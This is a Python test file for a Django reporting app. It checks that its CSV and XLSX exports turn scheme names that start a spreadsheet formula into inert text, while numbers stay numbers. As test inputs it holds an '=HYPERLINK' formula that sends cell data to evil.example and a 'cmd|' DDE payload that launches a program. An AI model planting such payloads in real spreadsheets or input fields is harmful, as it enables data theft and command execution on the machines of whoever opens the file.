"""Formula-safe exports (issue 15, item 4), replayed: a scheme renamed to a spreadsheet formula
reaches every CSV and XLSX Tandem writes as inert text, while numbers stay numbers.

The files are read back as a funder's spreadsheet would read them: the XLSX with openpyxl
(a cell's ``data_type`` is "f" for a formula, "s" for text, "n" for a number), the CSV with
the csv module, cell by cell.
"""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from conftest import World
from core.spreadsheets import FORMULA_STARTS, neutralise
from core.tests.test_permission_matrix_schemes import _scheme_form
from reports import services
from reports.exports.csv_zip import to_csv_zip
from reports.exports.xlsx import to_xlsx
from reports.models import ReportExport
from reports.tests.sample import sample_report
from schemes.models import Scheme

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
#: What OWASP lists as the start of a formula: =, +, -, @, a tab and a carriage return.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def export(world: World, kind: str, format: str, django_capture_on_commit_callbacks) -> bytes:
    """Ask for a report of scheme A over the last year as the manager, run it as the worker
    does, and return the file."""
    with django_capture_on_commit_callbacks(execute=False):
        asked = services.report_export_request(
            by=world.manager,
            scheme_ids=[world.scheme_a.pk],
            date_from=timezone.localdate() - datetime.timedelta(days=364),
            date_to=timezone.localdate(),
            format=format,
            kind=kind,
        )
    services.report_export_run(export_id=asked.pk)
    asked.refresh_from_db()
    assert asked.status == ReportExport.Status.DONE, asked.message
    return bytes(asked.content)


def cells_of(data: bytes) -> list[list[str]]:
    """The cells of a CSV file, as a spreadsheet splits them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_cell_starts_a_formula(rows: list[list[str]]) -> None:
    starting = [cell for row in rows for cell in row if cell.startswith(tuple(DANGEROUS))]
    # A number written as a number ("-0.5") is not text, and a spreadsheet runs nothing in it.
    assert [c for c in starting if not re.fullmatch(r"-\d+(\.\d+)?", c)] == []


@pytest.mark.django_db
def test_a_scheme_renamed_to_a_formula_arrives_in_the_xlsx_funnel_sheet_as_text(
    world, django_capture_on_commit_callbacks
):
    """The attack from the issue: a manager renames a scheme to =HYPERLINK(...) on the scheme
    form; the funder report's XLSX holds it in the funnel sheet as text, exactly as typed
    (no apostrophe showing) with Excel's quote-prefix style, and no cell is a formula."""
    response = world.client("manager").post(
        reverse("schemes:edit", kwargs={"pk": world.scheme_a.pk}),
        _scheme_form(world.scheme_a, name=HYPERLINK),
    )
    assert response.status_code == 302
    assert Scheme.objects.get(pk=world.scheme_a.pk).name == HYPERLINK

    book = openpyxl.load_workbook(
        io.BytesIO(export(world, "funder", "xlsx", django_capture_on_commit_callbacks))
    )
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    funnel = [c for row in book["The funnel"].iter_rows() for c in row]
    # The sheet's subtitle names the schemes after the period ("... · =HYPERLINK(..."): a
    # formula only when a cell starts with it, so the cells that matter are those that do.
    named = [c for c in funnel if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert named, "the scheme's row is in the funnel sheet"
    assert {(c.value, c.data_type, c.quotePrefix) for c in named} == {(HYPERLINK, "s", True)}


@pytest.mark.django_db
@pytest.mark.parametrize("start", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_scheme_name_starting_a_formula_is_neutralised_in_the_funder_csv(
    world, start, django_capture_on_commit_callbacks
):
    """Whichever character starts the formula, the scheme's cells in the funder report's CSV
    files (the funnel by scheme, the about file) start with an apostrophe."""
    name = f"{start}2+5+cmd|' /C calc'!A0"
    Scheme.objects.filter(pk=world.scheme_a.pk).update(name=name)
    data = export(world, "funder", "csv", django_capture_on_commit_callbacks)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {n: cells_of(archive.read(n)) for n in archive.namelist()}
    for rows in files.values():
        assert_no_cell_starts_a_formula(rows)
    by_scheme = [c for row in files["funnel__funnel_by_scheme.csv"] for c in row]
    assert "'" + name in by_scheme
    assert ["Schemes", "'" + name] in files["about.csv"]


@pytest.mark.django_db
@pytest.mark.parametrize("start", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_scheme_name_starting_a_formula_is_neutralised_in_the_case_extract(
    world, start, django_capture_on_commit_callbacks
):
    """The manager's case-level extract names each person's scheme: that cell is inert too,
    and the numbers beside it (meetings, hours) stay numbers."""
    name = f"{start}SUM(1+1)"
    Scheme.objects.filter(pk=world.scheme_a.pk).update(name=name)
    rows = cells_of(export(world, "case_extract", "csv", django_capture_on_commit_callbacks))
    header, *people = rows
    assert people, "the world's referrals are in the period"
    assert_no_cell_starts_a_formula(rows)
    scheme = header.index("scheme")
    assert {person[scheme] for person in people} == {"'" + name}
    met = header.index("met_count")
    assert all(re.fullmatch(r"\d+", person[met]) for person in people)


# --- Numbers stay numbers -----------------------------------------------------------------------


def test_a_negative_number_stays_a_number_in_the_xlsx_and_the_csv():
    """A negative mean change in score is written as a number a funder can sum (a number is
    never run), in the XLSX and the CSV; only text is neutralised."""
    report = sample_report()
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    numbers = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, int | float) and c.value < 0
    ]
    assert [(c.value, c.data_type, c.quotePrefix) for c in numbers] == [(-0.5, "n", False)]

    with zipfile.ZipFile(io.BytesIO(to_csv_zip(report))) as archive:
        distance = cells_of(archive.read("outcomes__distance.csv"))
    assert "-0.5" in [c for row in distance for c in row]
    assert not [c for row in distance for c in row if c.startswith("'-")]


def test_the_neutraliser_touches_text_only():
    """Text starting a formula gains an apostrophe, text that looks like a negative number
    included; numbers, dates and empty cells are returned as they are."""
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1") == f"'{start}1"
    assert neutralise("-3") == "'-3"
    assert neutralise("Northgate") == "Northgate"
    day = datetime.date(2026, 1, 5)
    for value in (-3, -2.5, 0, day, None):
        assert neutralise(value) == value


def test_a_control_character_in_a_scheme_name_does_not_stop_the_xlsx():
    """A scheme name pasted with a control character an XLSX cannot hold still exports: the
    character is left out, the rest of the name kept."""
    report = sample_report()
    report.schemes = [(1, "North\x1bgate"), *report.schemes[1:]]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    texts = {c.value for row in book["About"].iter_rows() for c in row}
    assert any("Northgate" in str(t) for t in texts)


def test_a_control_character_cannot_hide_a_formula_from_the_neutraliser():
    """A name that starts with a control character and then "=" is still text with the
    quote-prefix style once the control character is left out, never a bare formula."""
    report = sample_report()
    report.schemes = [(1, '\x01=HYPERLINK("http://evil.example","Click")'), *report.schemes[1:]]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert named and all(str(c.value).startswith("=") for c in named)
    assert all((c.data_type, c.quotePrefix) == ("s", True) for c in named)
    assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize("start", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_scheme_name_starting_a_formula_reads_as_typed_in_the_xlsx(start):
    """A scheme named ``=1+1`` (or starting with +, -, @, a tab or a carriage return) shows in
    the XLSX as ``=1+1``, not ``'=1+1``: text, with the quote-prefix style Excel gives a cell
    typed with a leading apostrophe, so editing it in Excel keeps it text. Read back from the
    file, no cell anywhere is a formula; an ordinary name has no quote prefix."""
    name = f"{start}1+1"
    report = sample_report()
    report.schemes = [(1, name), *report.schemes[1:]]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "1+1" in c.value]
    assert named
    # The About sheet lists the schemes after the name: "=1+1; Riverside Bail Support". A
    # carriage return comes back as a line feed (XML reads every line ending as one).
    assert all(c.value.startswith(name.replace("\r", "\n")) for c in named)
    assert {(c.data_type, c.quotePrefix) for c in named} == {("s", True)}
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    plain = [c for c in cells if c.value == "Item"]
    assert plain and not plain[0].quotePrefix


def test_the_csv_keeps_the_apostrophe_the_xlsx_does_not():
    """A CSV has no styles, so a scheme named ``=1+1`` is written ``'=1+1`` there (OWASP's
    advice); the same report's XLSX holds ``=1+1`` as text with the quote prefix."""
    report = sample_report()
    report.schemes = [(1, "=1+1"), *report.schemes[1:]]
    with zipfile.ZipFile(io.BytesIO(to_csv_zip(report))) as archive:
        about = cells_of(archive.read("about.csv"))
    assert any("'=1+1" in cell for row in about for cell in row)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    about_cells = [c for row in book["About"].iter_rows() for c in row]
    assert not [c for c in about_cells if str(c.value).startswith("'")]


# --- Every writer uses the neutraliser ----------------------------------------------------------

ROOT = Path(__file__).resolve().parents[3]
WRITES_A_SPREADSHEET = re.compile(
    r"\bcsv\.writer\b|\bDictWriter\b|\.to_csv\(|\.to_excel\(|\bWorkbook\(|\bxlsxwriter\b"
)


def writers_without_the_neutraliser(root: Path) -> list[str]:
    """Modules (tests and the virtualenv aside) that write CSV or XLSX without calling
    ``neutralise`` or ``neutralise_frame``."""
    found = []
    for path in sorted(root.rglob("*.py")):
        parts = path.relative_to(root).parts
        if parts[0].startswith(".") or "tests" in parts or parts[0] in {"var", "node_modules"}:
            continue
        text = path.read_text()
        if WRITES_A_SPREADSHEET.search(text) and "neutralise" not in text:
            found.append(str(path.relative_to(root)))
    return found


def test_every_csv_and_xlsx_writer_calls_the_neutraliser():
    """Each module that writes a CSV or an XLSX (funder reports, the case extract, and any
    added later: an audit or import-problems download) calls ``core.spreadsheets.neutralise``."""
    assert writers_without_the_neutraliser(ROOT) == []


def test_a_writer_without_the_neutraliser_is_caught(tmp_path):
    """The check reads the code: a new module writing a CSV with csv.writer is named."""
    (tmp_path / "audit").mkdir()
    (tmp_path / "audit" / "download.py").write_text("import csv\nw = csv.writer(out)\n")
    assert writers_without_the_neutraliser(tmp_path) == ["audit/download.py"]
